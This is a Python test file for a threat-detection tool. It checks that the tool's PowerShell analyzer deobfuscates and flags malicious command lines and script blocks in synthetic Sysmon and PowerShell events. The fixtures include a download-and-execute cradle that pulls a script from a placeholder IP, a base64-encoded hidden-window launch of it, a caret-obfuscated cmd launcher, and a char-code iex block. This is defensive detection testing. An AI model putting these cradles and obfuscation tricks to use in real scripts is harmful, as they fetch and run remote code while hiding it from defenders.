"""The detect stage's PowerShell analyzer over a real workspace: every PowerShell command line and
script block is deobfuscated and classified once, the obfuscated ones are detections."""

from __future__ import annotations

import base64
import json

from threatscope.detect import run_detect
from threatscope.ingest import ingest_paths
from threatscope.workspace import Workspace

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"


def _event(channel: str, event_id: int, record: int, data: dict,
           provider: str = "Microsoft-Windows-Sysmon") -> str:
    return json.dumps({"Event": {"System": {
        "Provider": {"#attributes": {"Name": provider}}, "EventID": event_id,
        "EventRecordID": record, "Channel": channel, "Computer": "WS01",
        "TimeCreated": {"#attributes": {"SystemTime": f"2018-05-12T10:00:{record:02d}Z"}}},
        "EventData": data}})


def _proc(record: int, image: str, cmdline: str) -> str:
    return _event(SYSMON, 1, record, {"Image": image, "CommandLine": cmdline,
                                      "ParentImage": "C:\\Windows\\explorer.exe"})


def _block(record: int, text: str) -> str:
    return _event("Microsoft-Windows-PowerShell/Operational", 4104, record,
                  {"ScriptBlockText": text, "ScriptBlockId": f"{{id-{record}}}",
                   "MessageNumber": 1, "MessageTotal": 1},
                  provider="Microsoft-Windows-PowerShell")


def test_powershell_events_analysed_and_obfuscated_ones_detected(tmp_path):
    encoded = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    codes = ",".join(str(ord(c)) for c in "Write-Host pwned")
    events = [
        _proc(1, PS, f"powershell.exe -nop -w hidden -enc {encoded}"),         # encoded
        _proc(2, PS, "powershell.exe -NoProfile Get-Service | Where Status -eq Running"),
        _proc(3, "C:\\Windows\\System32\\cmd.exe",                             # a launcher
              f"cmd.exe /c p^owe^rshell -e {encoded}"),
        _proc(4, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami"),         # not PowerShell
        _block(5, f"iex ([string]::Join('', [char[]]({codes})))"),               # char codes
        _block(6, "Get-ChildItem C:\\Temp -Filter *.log | Remove-Item"),
    ]
    ws = Workspace.open(tmp_path / "ws", create=True)
    (tmp_path / "events.json").write_text("\n".join(events) + "\n")
    ingest_paths(ws, [str(tmp_path / "events.json")], org="acme")
    for _ in range(2):  # a second run replaces the analysis, adds nothing
        summary = run_detect(ws)
        with ws.connect() as con:
            rows = con.execute("SELECT source_line, source, obfuscated, techniques, deobfuscated, "
                               "iocs FROM powershell ORDER BY source_line").fetchall()
            hits = con.execute("SELECT source_line, attack_techniques, evidence FROM detection "
                               "WHERE detector = 'powershell' ORDER BY source_line").fetchall()
        got = {r[0]: r[1:] for r in rows}
        assert sorted(got) == [1, 2, 3, 5, 6]  # line 4 starts no PowerShell
        assert {k: v[0] for k, v in got.items()} == {
            1: "command_line", 2: "command_line", 3: "command_line", 5: "script_block",
            6: "script_block"}
        assert {k for k, v in got.items() if v[1]} == {1, 3, 5}
        for line in (1, 3):
            assert "encodedcommand" in got[line][2] and got[line][3] == CRADLE
            assert "http://198.51.100.7/a.ps1" in got[line][4]
        assert got[5][3] == "Write-Host pwned" and "char-codes" in got[5][2]
        assert [h[0] for h in hits] == [1, 3, 5]
        assert all(h[1] == ["T1027"] for h in hits)
        assert CRADLE in hits[0][2] and "iocs: http://198.51.100.7/a.ps1" in hits[0][2]
        with ws.connect() as con:
            families = con.execute("SELECT source_line, malware_family FROM detection WHERE "
                                   "malware_family IS NOT NULL ORDER BY 1").fetchall()
        # the cradle the encoded commands hide: a family rule over the recovered text; the
        # obfuscation detection of the same event carries it too
        assert families == [(1, "downloader"), (1, "downloader"), (3, "downloader"),
                            (3, "downloader")]
        with ws.connect() as con:
            assert con.execute("SELECT source_line, family FROM powershell WHERE family "
                               "IS NOT NULL ORDER BY 1").fetchall() == [
                (1, "downloader"), (3, "downloader")]
        assert summary.powershell_detections == 3 + 2
